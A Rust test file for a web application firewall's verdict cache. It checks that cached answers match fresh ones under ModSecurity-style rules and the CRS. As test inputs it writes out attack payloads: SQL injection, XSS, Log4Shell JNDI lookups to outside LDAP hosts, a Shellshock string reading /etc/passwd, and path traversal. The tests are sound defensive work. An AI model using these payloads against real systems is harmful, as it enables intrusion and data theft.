//! Cached answers against fresh ones.

use std::net::IpAddr;
use std::sync::{Arc, Mutex};

use proptest::test_runner::{Config as ProptestConfig, TestRunner};

use super::*;
use crate::model::{Header, Request, RuleId};
use crate::service::testing::{call, outcome, quiet, rule_match, service, service_of};
use crate::service::{Answer, Decision, Service};

/// Rules that read every part of a request, each in its own way.
const RULES: &str = r#"
SecRuleEngine On
SecRequestBodyAccess On
SecRule ARGS "@contains evil" "id:1,phase:2,deny,status:403"
SecRule REQUEST_HEADERS "@contains evil" "id:2,phase:1,deny,status:403,msg:'in %{MATCHED_VAR_NAME}'"
SecRule REQUEST_COOKIES "@contains evil" "id:3,phase:1,deny,status:403"
SecRule REQUEST_METHOD "@streq HEAD" "id:4,phase:1,pass,log"
SecRule REQUEST_PROTOCOL "@streq HTTP/1.0" "id:5,phase:1,pass,log"
SecRule &REQUEST_HEADERS "@ge 5" "id:6,phase:1,pass,log"
SecRule REQUEST_HEADERS_NAMES "@rx ^X-ODD$" "id:7,phase:1,pass,log"
SecRule REMOTE_ADDR "@ipMatch 198.51.100.0/24" "id:8,phase:1,deny,status:406"
SecRule SERVER_PORT "@eq 8443" "id:9,phase:1,pass,log"
SecRule REQUEST_URI "@beginsWith /A" "id:10,phase:1,pass,log"
SecRule ARGS:clock "@unconditionalMatch" "id:11,phase:1,pass,nolog,chain"
  SecRule TIME_SEC "@ge 0" "setvar:tx.clock=%{TIME_SEC}"
SecRule REQUEST_HEADERS:X-Taken "@unconditionalMatch" "id:12,phase:1,pass,log,setvar:tx.taken=%{MATCHED_VAR}"
SecRule TX:taken "@streq two" "id:13,phase:1,deny,status:409"
SecRule REQUEST_HEADERS:Host "@rx ^\d" "id:14,phase:1,pass,log"
SecRule REQUEST_HEADERS:X-Request-Id "!@rx ^[a-z0-9]+$" "id:15,phase:1,pass,log"
SecRule REMOTE_PORT "@eq 1" "id:16,phase:1,pass,log"
SecAction "id:17,phase:1,pass,nolog,setvar:tx.forwarded=%{REQUEST_HEADERS.X-Real-Ip}"
SecRule TX:forwarded "@streq 203.0.113.1" "id:18,phase:1,deny,status:410"
"#;

/// The rules after a reload: another verdict for the same requests.
const OTHER_RULES: &str = r#"
SecRuleEngine On
SecRule REQUEST_URI "@contains x=1" "id:101,phase:1,deny,status:403"
SecRule REQUEST_HEADERS "@contains evil" "id:102,phase:1,pass,log"
"#;

const METHODS: [&str; 4] = ["GET", "GET", "HEAD", "POST"];
const TARGETS: [&str; 9] =
    ["/", "/a", "/a?x=1", "/a?x=evil", "/A", "/a?clock=1", "*", "/a?x=1&x=1", "/a?x=1%27%20or%201=1--"];
const SCHEMES: [&str; 2] = ["http", "https"];
const HOSTS: [&str; 3] = ["shop.example", "shop.example:8443", "192.0.2.1"];
const PROTOCOLS: [&str; 3] = ["HTTP/1.1", "HTTP/1.0", "HTTP/2.0"];
const ADDRS: [&str; 4] = ["192.0.2.7", "198.51.100.9", "::1", ""];
const PORTS: [u16; 3] = [0, 1, 8443];
/// Headers a request may carry, each on or off, in this order or turned around.
const HEADERS: [(&str, &str); 25] = [
    ("User-Agent", "fine"),
    ("User-Agent", "evil"),
    ("User-Agent", "sqlmap/1.5"),
    ("Referer", "fine"),
    ("Referer", "evil"),
    ("Referer", "<script>alert(1)</script>"),
    ("X-Anything", "${jndi:ldap://evil/x}"),
    ("Cookie", "a=b"),
    ("Cookie", "a=evil"),
    ("Authorization", "Bearer evil"),
    ("X-Anything", "fine"),
    ("x-anything", "fine"),
    ("X-Anything", "evil"),
    ("X-ODD", "fine"),
    ("X-Taken", "one"),
    ("X-Taken", "two"),
    ("X-Request-Id", "abc1"),
    ("X-Request-Id", "abc2"),
    ("X-Request-Id", "evil"),
    ("X-Request-Id", "NOT LOWER"),
    ("X-Forwarded-For", "203.0.113.1"),
    ("X-Forwarded-For", "203.0.113.2"),
    ("X-Real-Ip", "203.0.113.1"),
    ("x_request_id", "evil"),
    ("X-Api_Key", "k"),
];

/// A request as a list of choices, so that streams of requests stay close to each other and shrink well.
#[derive(Clone, Default, Debug)]
struct Choices {
    parts: [usize; 10],
    headers: Vec<usize>,
}

impl Choices {
    /// Changes one part.
    fn change(&mut self, part: usize, choice: usize) {
        match part % 24 {
            part @ 0..10 => self.parts[part] = choice,
            // Of headers there are more than of all else, and a request that stays the same is what makes a hit.
            10..20 => match self.headers.iter().position(|header| *header == choice % HEADERS.len()) {
                Some(place) => drop(self.headers.remove(place)),
                None => self.headers.push(choice % HEADERS.len()),
            },
            20 => self.headers.reverse(),
            21 => self.headers.clear(),
            22 => self.headers.iter_mut().for_each(|header| *header = other_value(*header, choice)),
            _ => {}
        }
    }

    fn part<'p, T>(&self, part: usize, pool: &'p [T]) -> &'p T {
        &pool[self.parts[part] % pool.len()]
    }

    fn decide(&self, service: &Service) -> Decision {
        let headers: Vec<Header<'_>> = self
            .headers
            .iter()
            .map(|header| HEADERS[*header])
            .map(|(name, value)| Header { name: name.as_bytes(), value: value.as_bytes() })
            .collect();
        let bodies =
            [Body::Complete(b""), Body::Complete(b""), Body::Complete(b"x=evil"), Body::Partial(b"x"), Body::NotSent];
        let request = Request {
            method: self.part(0, &METHODS).as_bytes(),
            target: self.part(1, &TARGETS).as_bytes(),
            protocol: self.part(2, &PROTOCOLS).as_bytes(),
            headers: &headers,
            body: *self.part(3, &bodies),
            remote_addr: self.part(4, &ADDRS).parse::<IpAddr>().ok(),
            remote_port: *self.part(5, &PORTS),
            server_addr: self.part(6, &ADDRS).parse::<IpAddr>().ok(),
            server_port: *self.part(7, &PORTS),
        };
        let scheme = self.part(8, &SCHEMES).as_bytes();
        let host = self.part(9, &HOSTS).as_bytes();
        service.decide(&Call { scheme, host, ..call(request) })
    }
}

/// Another header of the same name: what matters most to a cache that tells requests apart by name.
fn other_value(header: usize, choice: usize) -> usize {
    let same: Vec<usize> = (0..HEADERS.len()).filter(|other| HEADERS[*other].0 == HEADERS[header].0).collect();
    same[choice % same.len()]
}

/// What must not differ.
fn essence(decision: &Decision) -> (Answer, Vec<(RuleId, Vec<u8>)>, i64) {
    let outcome = decision.outcome.as_deref();
    let rules = outcome.iter().flat_map(|outcome| &outcome.rules).map(|rule| (rule.info.id, rule.msg.clone()));
    (decision.answer.clone(), rules.collect(), outcome.map_or(0, |outcome| outcome.score.inbound))
}

/// Runs a stream of requests through two services, one with a cache; answers how many were answered from it.
fn run_stream(steps: &[(usize, usize)], cached: &Service, fresh: &Service, mut reload: impl FnMut()) -> usize {
    let mut request = Choices::default();
    let mut hits = 0;
    for (part, choice) in steps {
        if part % 64 == 63 {
            reload();
            cached.reload().unwrap();
            fresh.reload().unwrap();
        }
        request.change(*part, *choice);
        // Twice, so that every request has its chance to be answered from the cache.
        for _ in 0..2 {
            let (with, without) = (request.decide(cached), request.decide(fresh));
            assert_eq!(essence(&with), essence(&without), "cached: {}, {request:?}", with.cached);
            assert!(!without.cached);
            hits += usize::from(with.cached);
        }
    }
    hits
}

/// Streams of requests against two pairs of rules, swapped at every reload; answers the number of hits.
fn run_streams(cases: u32, length: usize, rules: [&str; 2]) -> usize {
    let steps = proptest::collection::vec((0usize..1000, 0usize..1000), length);
    let config = ProptestConfig { cases, failure_persistence: None, ..ProptestConfig::default() };
    let all_hits = std::cell::Cell::new(0);
    let run = |steps: Vec<(usize, usize)>| {
        let text = Arc::new(Mutex::new(rules[0].to_owned()));
        let (cached, fresh) = (service_of(&text, quiet(true)), service_of(&text, quiet(false)));
        let mut turn = 0;
        let hits = run_stream(&steps, &cached, &fresh, || {
            turn = 1 - turn;
            *text.lock().unwrap() = rules[turn].to_owned();
        });
        all_hits.set(all_hits.get() + hits);
        Ok(())
    };
    TestRunner::new(config).run(&steps, run).unwrap();
    all_hits.get()
}

#[test]
fn cached_answers_equal_fresh_ones() {
    let hits = run_streams(96, 100, [RULES, OTHER_RULES]);
    println!("96 streams of 200 requests, {hits} answered from the cache");
    assert!(hits > 1000, "{hits}");
}

/// A request with these headers, otherwise always the same.
fn with_headers(service: &Service, headers: &[(&str, &str)]) -> Decision {
    let headers: Vec<Header<'_>> =
        headers.iter().map(|(name, value)| Header { name: name.as_bytes(), value: value.as_bytes() }).collect();
    service.decide(&call(Request { target: b"/a?x=1", headers: &headers, ..Request::default() }))
}

fn status(decision: &Decision) -> u16 {
    match decision.answer {
        Answer::Allow => 200,
        Answer::Deny { status, .. } => status,
        _ => 0,
    }
}

#[test]
fn a_clean_request_does_not_open_the_door_to_an_attack() {
    let attacks = [
        ("Cookie", "a=evil"),
        ("Referer", "https://x/?evil"),
        ("User-Agent", "evil"),
        ("X-Arbitrary", "evil"),
        ("X-Request-Id", "evil"),
        ("traceparent", "evil"),
        ("X-Forwarded-For", "evil"),
        ("If-None-Match", "evil"),
        ("Authorization", "evil"),
        ("x_request_id", "evil"),
    ];
    for (name, value) in attacks {
        let service = service(RULES, quiet(true));
        let always = ("User-Agent", "fine");
        assert_eq!(status(&with_headers(&service, &[always])), 200);
        assert_eq!(status(&with_headers(&service, &[always, (name, "fine")])), 200, "{name}");
        assert_eq!(status(&with_headers(&service, &[always, (name, "fine")])), 200, "{name}");
        for _ in 0..2 {
            let attacked = with_headers(&service, &[always, (name, value)]);
            assert_eq!(status(&attacked), 403, "{name}");
        }
        let clean = with_headers(&service, &[always, (name, "fine")]);
        assert_eq!(status(&clean), 200, "{name}: an attack does not shut the door to a clean request");
    }
}

#[test]
fn an_attack_does_not_shut_the_door_to_clean_requests() {
    for name in ["X-Request-Id", "traceparent", "X-Forwarded-For", "Referer", "Cookie"] {
        let service = service(RULES, quiet(true));
        assert_eq!(status(&with_headers(&service, &[(name, "evil")])), 403, "{name}");
        for _ in 0..2 {
            assert_eq!(status(&with_headers(&service, &[(name, "fine")])), 200, "{name}");
        }
    }
}

#[test]
fn volatile_headers_do_not_stand_in_the_way() {
    let service = service(RULES, quiet(true));
    let envoy = |id, forwarded| with_headers(&service, &[("x-request-id", id), ("x-forwarded-for", forwarded)]);
    assert!(!envoy("a1", "192.0.2.1").cached);
    assert!(envoy("b2", "192.0.2.9").cached);
    assert!(!envoy("evil", "192.0.2.9").cached);
    assert!(envoy("c3", "192.0.2.9").cached);
    let counts = &service.snapshot.load().policies["default"].metrics.cache;
    assert_eq!((counts.hits.get(0), counts.misses.get(0)), (2, 1));
    assert_eq!(counts.bypasses.get(Bypass::Screened as usize), 1);
}

#[test]
fn what_is_never_cached() {
    let text = Arc::new(Mutex::new(RULES.to_owned()));
    let evil = [Header { name: b"X-Real-IP", value: b"192.0.2.1" }];
    let secret = [Header { name: b"x_API-key", value: b"k" }];
    let own = [Header { name: b"X_Mine", value: b"k" }];
    let long = [b"/", &[b'a'; 20_000][..]].concat();
    let get = Request { target: b"/a", ..Request::default() };
    let table = [
        (Bypass::Method, Request { method: b"PUT", ..get }),
        (Bypass::Body, Request { body: Body::Complete(b"x"), ..get }),
        (Bypass::Body, Request { body: Body::Partial(b"x"), ..get }),
        (Bypass::Body, Request { body: Body::NotSent, ..get }),
        (Bypass::Unscreenable, Request { headers: &evil, ..get }),
        (Bypass::NeverCacheable, Request { headers: &secret, ..get }),
        (Bypass::NeverCacheable, Request { headers: &own, ..get }),
        (Bypass::NotDeterministic, Request { target: b"/a?clock=1", ..get }),
        (Bypass::Target, Request { target: &long, ..get }),
    ];
    for (reason, request) in table {
        let mut policy = quiet(true);
        policy.cache.never_headers = vec!["x-mine".to_owned()];
        let service = service_of(&text, policy);
        let decisions = [(); 3].map(|()| service.decide(&call(request)).cached);
        assert_eq!(decisions, [false; 3], "{reason:?}");
        let counts = &service.snapshot.load().policies["default"].metrics.cache;
        assert_eq!(counts.bypasses.get(reason as usize), 3, "{reason:?}");
        assert_eq!(service.snapshot.load().policies["default"].cache_size(), (0, 0));
    }
    let detecting = service_of(&text, Policy { mode: Mode::Detect, ..quiet(true) });
    assert!(![(); 3].map(|()| detecting.decide(&call(get)).cached).contains(&true));
}

#[test]
fn verdicts_are_forgotten_in_time_and_on_reload() {
    let mut policy = quiet(true);
    policy.cache.ttl = Duration::from_millis(500);
    let service = service(RULES, policy);
    let cached = || with_headers(&service, &[]).cached;
    assert_eq!([cached(), cached()], [false, true]);
    std::thread::sleep(Duration::from_millis(700));
    assert_eq!([cached(), cached()], [false, true]);
    assert_eq!(service.reload(), Ok(2));
    assert_eq!([cached(), cached()], [false, true]);
}

#[test]
fn the_memory_is_bounded() {
    let mut policy = quiet(true);
    policy.cache.max_bytes = 64 << 10;
    let service = service(RULES, policy);
    for number in 0..2000 {
        let target = format!("/{number}/{}", "a".repeat(200));
        service.decide(&call(Request { target: target.as_bytes(), ..Request::default() }));
    }
    let snapshot = service.snapshot.load();
    let cache = snapshot.policies["default"].cache.as_ref().unwrap();
    cache.outcomes.run_pending_tasks();
    let (entries, bytes) = cache.size();
    assert!(entries > 10 && bytes <= 64 << 10, "{entries} entries, {bytes} bytes");
}

#[test]
fn the_weight_grows_with_what_is_kept() {
    let bare = weight(&outcome(Verdict::Allow));
    let mut full = outcome(Verdict::Allow);
    full.rules = vec![rule_match(1, "ARGS:x", &[b'v'; 512])];
    assert!(weight(&full) > bare + 1024, "{} {bare}", weight(&full));
}

#[test]
fn keys_tell_every_boundary_apart() {
    let footprint = crate::ruleset::Footprint { remote_addr: true, remote_port: true, ..Default::default() };
    let headers = |list: &'static [(&'static str, &'static str)]| -> Vec<Header<'static>> {
        list.iter().map(|(name, value)| Header { name: name.as_bytes(), value: value.as_bytes() }).collect()
    };
    let lists = [
        headers(&[]),
        headers(&[("a", "bc")]),
        headers(&[("ab", "c")]),
        headers(&[("a", "b"), ("c", "")]),
        headers(&[("c", ""), ("a", "b")]),
        headers(&[("A", "bc")]),
        headers(&[("a", "bc"), ("a", "bc")]),
    ];
    let get = Request::default();
    let mut calls: Vec<Call<'_>> = lists.iter().map(|headers| call(Request { headers, ..get })).collect();
    let plain = call(get);
    calls.push(Call { scheme: b"https", ..plain });
    calls.push(Call { scheme: b"http", host: b"sshop.example", ..plain });
    calls.push(Call { scheme: b"", host: b"httpshop.example", ..plain });
    calls.push(Call { host: b"shop.example/", ..call(Request { target: b"", ..get }) });
    calls.push(call(Request { method: b"GE", ..get }));
    calls.push(call(Request { protocol: b"HTTP/1.0", ..get }));
    for addr in ["192.0.2.7", "::ffff:192.0.2.7", "::"] {
        calls.push(call(Request { remote_addr: addr.parse().ok(), ..get }));
        calls.push(call(Request { server_addr: addr.parse().ok(), ..get }));
    }
    calls.push(call(Request { remote_port: 1, ..get }));
    calls.push(call(Request { server_port: 1, ..get }));
    let key = FingerprintKey::new([5; 16]);
    let mut keys: Vec<_> = calls.iter().map(|call| key.key(call, &footprint, std::iter::repeat(true))).collect();
    let count = keys.len();
    keys.sort();
    keys.dedup();
    assert_eq!(keys.len(), count);
    assert_eq!(
        key.key(&plain, &footprint, std::iter::repeat(true)),
        key.key(&call(get), &footprint, std::iter::repeat(true))
    );
    assert_ne!(
        key.key(&plain, &footprint, std::iter::repeat(true)),
        FingerprintKey::new([6; 16]).key(&plain, &footprint, std::iter::repeat(true))
    );
}

#[test]
fn a_cached_denial_leaves_the_same_record() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("audit.log");
    let mut policy = quiet(true);
    policy.audit = crate::config::AuditPolicy {
        when: crate::config::AuditWhen::Relevant,
        to: crate::config::AuditTarget::File(path.clone()),
    };
    let service = service(&format!("SecAuditEngine RelevantOnly\n{RULES}"), policy);
    let decisions = [(); 2].map(|()| with_headers(&service, &[("User-Agent", "evil")]));
    assert_eq!(decisions.each_ref().map(|decision| (status(decision), decision.cached)), [(403, false), (403, true)]);
    service.flush();
    let mut records: Vec<serde_json::Value> =
        std::fs::read_to_string(&path).unwrap().lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    for (record, cached) in records.iter_mut().zip([false, true]) {
        let transaction = record["transaction"].as_object_mut().unwrap();
        assert!(transaction.remove("unique_id").is_some() && transaction.remove("time_stamp").is_some());
        let ours = transaction["portcullis"].as_object_mut().unwrap();
        assert_eq!(ours.remove("cached"), Some(cached.into()));
        assert!(ours.remove("eval_us").is_some());
    }
    assert_eq!(records.len(), 2);
    assert_eq!(records[0], records[1]);
    assert_eq!(records[0]["transaction"]["messages"][0]["details"]["ruleId"], "2");
    let hits = service.metrics_text();
    assert!(hits.contains("portcullis_rule_hits_total{policy=\"default\",rule=\"2\"} 2"), "{hits}");
}

#[test]
fn classes_of_headers() {
    let settings = CachePolicy {
        never_headers: vec!["x-mine".to_owned()],
        volatile_headers: vec!["x-request-id".to_owned(), "b3".to_owned()],
        key_headers: vec!["b3".to_owned()],
        ..CachePolicy::default()
    };
    let policy = Policy { cache: settings, ..Policy::default() };
    let rules = crate::service::testing::load("SecRuleEngine On").unwrap().rules;
    let cache = Cache::new(&policy, &rules, FingerprintKey::new([0; 16]), Arc::default()).unwrap();
    let table = [
        ("x-request-id", Class::Volatile(Some(0))),
        ("X-Request-ID", Class::Volatile(None)),
        ("x_request_id", Class::Volatile(None)),
        ("B3", Class::Stable),
        ("traceparent", Class::Stable),
        ("X-MINE", Class::Never),
        ("COOKIE", Class::Never),
        ("x-other-token", Class::Never),
        ("accept", Class::Stable),
    ];
    for (name, class) in table {
        assert_eq!(cache.class(name.as_bytes()), class, "{name}");
    }
    let long = format!("{}-token", "x".repeat(100));
    assert_eq!(cache.class(long.as_bytes()), Class::Never);
    assert_eq!(Bypass::ALL.map(|reason| reason as usize), std::array::from_fn(|index| index));
}

#[test]
fn another_connection_of_the_same_client_finds_the_verdict() {
    let without_ports = RULES.lines().filter(|line| !line.contains("REMOTE_PORT")).collect::<Vec<_>>().join("\n");
    for (rules, found) in [(RULES, false), (without_ports.as_str(), true)] {
        let service = service(rules, quiet(true));
        let from = |port| {
            let remote_addr = Some([192, 0, 2, 7].into());
            service.decide(&call(Request { remote_addr, remote_port: port, ..Request::default() })).cached
        };
        assert_eq!([from(1000), from(1000), from(2000)], [false, true, found]);
    }
}

/// The same under the CRS, in which rules read a request in every way there is.
#[test]
fn under_the_crs() {
    let shared = std::env::var("PORTCULLIS_SHARED")
        .unwrap_or_else(|_| concat!(env!("CARGO_MANIFEST_DIR"), "/../shared").to_owned());
    let crs = format!("{shared}/crs/4.28.0");
    if !std::path::Path::new(&crs).is_dir() {
        println!("SKIPPED: there is no CRS at {crs}");
        return;
    }
    let with = |cache| {
        let mut policy = Policy { rules: Some(format!("crs@{crs}")), ..quiet(cache) };
        policy.crs.detection_paranoia = Some(4);
        Service::new(crate::service::testing::config(policy)).unwrap()
    };
    let (cached, fresh) = (with(true), with(false));
    poisoning_under_the_crs(&cached);
    screens_under_the_crs(&cached);
    let steps: Vec<(usize, usize)> = (0..50).map(|step: usize| (step * 7919 % 1013, step * 104_729 % 997)).collect();
    let hits = run_stream(&steps, &cached, &fresh, || {});
    println!("under the CRS: {hits} of 100 requests answered from the cache");
    assert!(hits > 5, "{hits}");
}

fn poisoning_under_the_crs(service: &Service) {
    let browser = [("Host", "shop.example"), ("User-Agent", "Mozilla/5.0"), ("Accept", "*/*")];
    let sends = |name, value| {
        let mut headers = browser.to_vec();
        headers.retain(|(known, _)| *known != name);
        headers.push((name, value));
        with_headers(service, &headers)
    };
    let attacks = [
        ("Cookie", "sid=1", "sid=1' or '1'='1' --"),
        ("Referer", "https://shop.example/", "https://shop.example/?q=<script>alert(1)</script>"),
        ("User-Agent", "Mozilla/5.0", "${jndi:ldap://203.0.113.9/a}"),
        ("X-Arbitrary", "1", "${jndi:ldap://203.0.113.9/a}"),
        ("X-Request-Id", "1", "${jndi:ldap://203.0.113.9/a}"),
    ];
    for (name, clean, attack) in attacks {
        let first = sends(name, clean);
        assert_eq!((status(&first), status(&sends(name, clean))), (200, 200), "{name}: {first:?}");
        for _ in 0..2 {
            assert_eq!(status(&sends(name, attack)), 403, "{name}");
        }
        assert_eq!(status(&sends(name, clean)), 200, "{name}");
    }
}

/// A screen says what a look at every link says, on values of all sorts and on what becomes of them.
fn screens_under_the_crs(service: &Service) {
    let values = [
        "5d1a6b0e-3c8f-4b52-9f0e-000000000000",
        "192.0.2.1, 198.51.100.7",
        "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        "\"33a64df551425fcc55e4d42a148795d9f25f89d4\"",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "https://shop.example/?q=<script>alert(1)</script>",
        "%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
        "&lt;svg/onload=alert(1)&gt;",
        "1' or '1'='1' --",
        "1 UNION/**/SELECT password FROM users",
        "${jndi:ldap://203.0.113.9/a}",
        "() { :; }; /bin/cat /etc/passwd",
        "sqlmap/1.7",
        "/../../etc/passwd",
        "%u0073\\x63ript \\u0061lert",
        "",
    ];
    let snapshot = service.snapshot.load();
    let rules = &snapshot.policy(None).unwrap().set.rules;
    let (mut scratch, mut looked_at, mut matched) = (Scratch::default(), 0, 0);
    for name in ["x-request-id", "X-Forwarded-For", "referer", "user-agent", "if-none-match"] {
        let screen = Screen::new(rules, name.as_bytes());
        for (first, second) in values.iter().flat_map(|first| values.iter().map(move |second| (first, second))) {
            let cut = first.len() * (looked_at % 5) / 4;
            let value = [&first.as_bytes()[..cut], second.as_bytes()].concat();
            let expected = screen.matches_plainly(rules, &value);
            assert_eq!(screen.matches(rules, &value, &mut scratch), expected, "{name}: {}", value.escape_ascii());
            looked_at += 1;
            matched += usize::from(expected);
        }
    }
    println!("under the CRS: {looked_at} values screened, {matched} matched");
    assert!(matched > 100 && matched < looked_at - 100, "{matched} of {looked_at}");
}
